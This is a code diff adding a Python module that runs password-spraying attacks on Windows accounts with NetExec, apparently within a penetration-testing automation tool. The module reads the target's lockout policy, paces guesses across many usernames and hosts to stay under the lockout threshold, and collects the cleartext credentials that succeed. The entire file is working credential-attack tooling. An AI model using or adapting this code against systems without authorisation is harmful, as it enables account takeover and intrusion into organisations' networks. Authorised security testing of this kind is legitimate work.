@@ -0,0 +1,284 @@
+"""Lockout-aware password spraying.
+
+A spray tries each password of a list against every username of a list, one
+password at a time, on every target. One NetExec run tries one password
+against the usernames still to find on one target. Each target gets its runs
+in password order, and targets are sprayed in parallel on a pool of workers.
+
+The spray is paced against the account lockout policy, read beforehand with
+``--pass-pol`` (see ``lockout_policy_from_findings``). Each run is one failed
+logon for every account it tries, and an account gets at most ``threshold -
+margin`` of them until the policy's observation window has elapsed since its
+last one -- when Windows resets its bad password count. Runs involving an
+account out of attempts wait for it. Accounts are domain-wide (an attempt on
+any target counts) unless the spray uses local authentication, where each
+target has its own.
+
+The authentication confirmation the output parser always skips is precisely
+the finding of a spray: successes are read from the NetExec lines of each run,
+reported as soon as the run ends, and the account is not tried again. A
+lockout reported by any run stops the spray.
+"""
+
+import re
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+
+from netexec.helpers.netexec_output_parser import line_fields
+
+# Extra seconds waited past the observation window, for clock skew with the DC.
+_WINDOW_SLACK = 30
+
+_DURATION_PART = re.compile(r"(\d+)\s*(day|hour|minute|second)s?", re.IGNORECASE)
+_DURATION_UNITS = {"day": 86400, "hour": 3600, "minute": 60, "second": 1}
+
+# [+] NORTH\jon.snow:iknownothing (Pwn3d!)   or   [+] jon.snow:iknownothing
+_AUTH_SUCCESS = re.compile(
+    r"\[\+\]\s+(?:(?P<domain>[^\\\s]+)\\)?(?P<username>[^\\:\s]+):"
+)
+_GUEST_SESSION = "(Guest)"
+_LOCKED_OUT = "STATUS_ACCOUNT_LOCKED_OUT"
+
+
+@dataclass(frozen=True)
+class LockoutPolicy:
+    """Account lockout settings a spray is paced against."""
+
+    # Failed logons locking an account out; 0 when lockout is disabled.
+    threshold: int
+    # Seconds after its last failed logon an account's count is reset.
+    observation_window: int
+    # False when the policy could not be read and defaults were assumed.
+    read_from_target: bool = True
+
+
+def _duration_seconds(text: str) -> int | None:
+    parts = _DURATION_PART.findall(text or "")
+    if not parts:
+        return None
+    return sum(int(count) * _DURATION_UNITS[unit.lower()] for count, unit in parts)
+
+
+def lockout_policy_from_findings(
+    findings: list[dict], default_threshold: int, default_window: int
+) -> LockoutPolicy:
+    """Lockout policy from the ``password_policy`` findings of ``--pass-pol``.
+
+    The defaults are assumed when the lockout threshold was not reported.
+    """
+    settings = {f["key"].lower(): f["value"] for f in findings}
+    threshold = settings.get("account lockout threshold")
+    if threshold is None:
+        return LockoutPolicy(default_threshold, default_window, False)
+    window = _duration_seconds(settings.get("reset account lockout counter", ""))
+    return LockoutPolicy(
+        # "None": lockout disabled.
+        int(threshold) if threshold.strip().isdigit() else 0,
+        window if window is not None else default_window,
+    )
+
+
+class AccountPacer:
+    """Hands out logon attempts per account, within the lockout policy."""
+
+    def __init__(self, policy: LockoutPolicy, margin: int, clock=None):
+        self._budget = policy.threshold - margin if policy.threshold else None
+        if self._budget is not None and self._budget < 1:
+            raise ValueError(
+                f"An account lockout threshold of {policy.threshold} leaves no "
+                f"attempt under the safety margin of {margin}: not spraying"
+            )
+        self._window = policy.observation_window + _WINDOW_SLACK
+        self._clock = clock or time.monotonic
+        # account -> (attempts in the current window, time of the last one)
+        self._attempts: dict = {}
+        self._lock = threading.Lock()
+
+    @property
+    def budget(self) -> int | None:
+        """Attempts per account and observation window; None when unlimited."""
+        return self._budget
+
+    def reserve(self, accounts: list) -> float:
+        """Record one attempt on each of *accounts* and return 0.
+
+        When one of them is out of attempts nothing is recorded, and the
+        seconds to wait before asking again are returned instead.
+        """
+        if self._budget is None:
+            return 0.0
+        with self._lock:
+            now = self._clock()
+            wait = 0.0
+            for account in accounts:
+                count, last = self._attempts.get(account, (0, now))
+                if count >= self._budget and now - last < self._window:
+                    wait = max(wait, last + self._window - now)
+            if wait:
+                return wait
+            for account in accounts:
+                count, last = self._attempts.get(account, (0, now))
+                if now - last >= self._window:
+                    count = 0
+                self._attempts[account] = (count + 1, now)
+            return 0.0
+
+
+@dataclass
+class SprayReport:
+    credentials: list[dict] = field(default_factory=list)
+    stdout: list[str] = field(default_factory=list)
+    stderr: list[str] = field(default_factory=list)
+    returncode: int = 0
+    # Logon attempts made (one per username tried in a run).
+    attempts: int = 0
+    # Runs not made: past the deadline, or after a lockout.
+    skipped_runs: int = 0
+    locked_out: bool = False
+
+
+class PasswordSpray:
+    """Sprays *passwords* over *usernames* on *targets*, paced by *pacer*.
+
+    *attempt* runs NetExec for one (target, password, usernames) and returns
+    its (stdout, stderr, returncode). *on_success* is called with each
+    credential found, as soon as its run ends.
+    """
+
+    def __init__(
+        self,
+        targets: list[str],
+        usernames: list[str],
+        passwords: list[str],
+        pacer: AccountPacer,
+        attempt,
+        local_auth: bool = False,
+        workers: int = 4,
+        max_duration: float | None = None,
+        on_success=None,
+        ip_to_asset_id_map: dict | None = None,
+        clock=None,
+        sleep=None,
+    ):
+        self._targets = targets
+        self._usernames = usernames
+        self._passwords = passwords
+        self._pacer = pacer
+        self._attempt = attempt
+        self._local_auth = local_auth
+        self._workers = workers
+        self._on_success = on_success
+        self._ip_to_asset_id_map = ip_to_asset_id_map or {}
+        self._clock = clock or time.monotonic
+        self._stop = threading.Event()
+        # Interrupted by a lockout, so waiting runs give up at once.
+        self._sleep = sleep or self._stop.wait
+        self._deadline = (
+            self._clock() + max_duration if max_duration is not None else None
+        )
+        self._found: set = set()
+        self._lock = threading.Lock()
+        self._report = SprayReport()
+
+    def _account(self, target: str, username: str):
+        # Windows account names are case-insensitive.
+        return (target, username.lower()) if self._local_auth else username.lower()
+
+    def run(self) -> SprayReport:
+        workers = min(self._workers, len(self._targets))
+        with ThreadPoolExecutor(max_workers=workers) as pool:
+            list(pool.map(self._spray_target, self._targets))
+        return self._report
+
+    def _spray_target(self, target: str) -> None:
+        for password in self._passwords:
+            self._run_one(target, password)
+
+    def _run_one(self, target: str, password: str) -> None:
+        with self._lock:
+            usernames = [
+                u
+                for u in self._usernames
+                if self._account(target, u) not in self._found
+            ]
+        if not usernames:
+            return
+        accounts = [self._account(target, u) for u in usernames]
+        while True:
+            if self._stop.is_set() or self._past_deadline(0):
+                self._skip()
+                return
+            wait = self._pacer.reserve(accounts)
+            if not wait:
+                break
+            if self._past_deadline(wait):
+                self._skip()
+                return
+            self._sleep(wait)
+
+        stdout, stderr, returncode = self._attempt(target, password, usernames)
+        found = self._successes(target, password, stdout)
+        with self._lock:
+            self._report.attempts += len(usernames)
+            if stdout:
+                self._report.stdout.append(stdout.rstrip("\n"))
+            if stderr:
+                self._report.stderr.append(stderr.rstrip("\n"))
+            if returncode != 0 and self._report.returncode == 0:
+                self._report.returncode = returncode
+            new = []
+            for credential in found:
+                account = self._account(target, credential["username"])
+                if account not in self._found:
+                    self._found.add(account)
+                    self._report.credentials.append(credential)
+                    new.append(credential)
+        for credential in new:
+            if self._on_success:
+                self._on_success(credential)
+
+    def _past_deadline(self, wait: float) -> bool:
+        return self._deadline is not None and self._clock() + wait >= self._deadline
+
+    def _skip(self) -> None:
+        with self._lock:
+            self._report.skipped_runs += 1
+
+    def _successes(self, target: str, password: str, stdout: str) -> list[dict]:
+        results: list[dict] = []
+        for line in (stdout or "").splitlines():
+            fields = line_fields(line)
+            if fields is None:
+                continue
+            ip, hostname, rest = fields
+            if _LOCKED_OUT in rest:
+                self._report.locked_out = True
+                self._stop.set()
+                continue
+            m = _AUTH_SUCCESS.match(rest)
+            # A guest session is not a valid logon, and the secret must be
+            # this run's password (other "[+]" lines carry none).
+            if (
+                not m
+                or _GUEST_SESSION in rest
+                or not rest[m.end() :].startswith(password)
+            ):
+                continue
+            credential: dict = {
+                "username": m.group("username"),
+                "password": password,
+                "host": ip,
+                "hostname": hostname,
+                "source_line": rest,
+            }
+            if m.group("domain"):
+                credential["domain"] = m.group("domain")
+            asset_id = self._ip_to_asset_id_map.get(
+                ip, self._ip_to_asset_id_map.get(target, "")
+            )
+            if asset_id:
+                credential["asset_id"] = asset_id
+            results.append(credential)
+        return results